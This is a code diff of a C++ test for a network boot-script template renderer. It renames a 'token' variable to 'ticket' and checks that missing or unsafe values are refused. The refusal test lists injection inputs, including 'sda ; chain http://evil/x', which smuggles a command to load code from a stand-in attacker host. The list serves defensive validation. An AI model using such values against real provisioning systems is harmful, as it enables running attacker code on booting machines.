@@ -49,7 +49,7 @@ Templates::Vars deploy_vars() {
           {"retry_s", "10"},
           {"image", "web:1"},
           {"deployment", "7"},
-          {"token", "kilnagent_0123"},
+          {"ticket", "kilnticket_0123"},
           {"disk", "largest"}};
 }
 
@@ -60,7 +60,7 @@ TEST(BootScript, RendersDeploy) {
   EXPECT_NE(out->find("kernel http://10.99.0.1:8080/files/kiln/vmlinuz initrd=initrd.img "
                       "console=ttyS0,115200 quiet kiln.mode=deploy "
                       "kiln.server=http://10.99.0.1:8080 kiln.mac=52:54:00:99:00:01 "
-                      "kiln.token=kilnagent_0123 kiln.disk=largest kiln.after=reboot"),
+                      "kiln.ticket=kilnticket_0123 kiln.disk=largest kiln.after=reboot"),
             std::string::npos)
       << *out;
   EXPECT_NE(out->find("initrd http://10.99.0.1:8080/files/kiln/initrd.img"), std::string::npos);
@@ -69,10 +69,10 @@ TEST(BootScript, RendersDeploy) {
 
 TEST(BootScript, RefusesMissingAndUnsafeValues) {
   auto vars = deploy_vars();
-  vars.erase("token");
+  vars.erase("ticket");
   auto out = Templates::embedded().render(Script::kDeploy, vars);
   ASSERT_FALSE(out);
-  EXPECT_NE(out.error().message.find("{{token}}"), std::string::npos);
+  EXPECT_NE(out.error().message.find("{{ticket}}"), std::string::npos);
 
   for (const char* bad :
        {"a\nshell", "${net0/mac}", "x\"y", "a\\b", "tab\there", "sda ; chain http://evil/x",
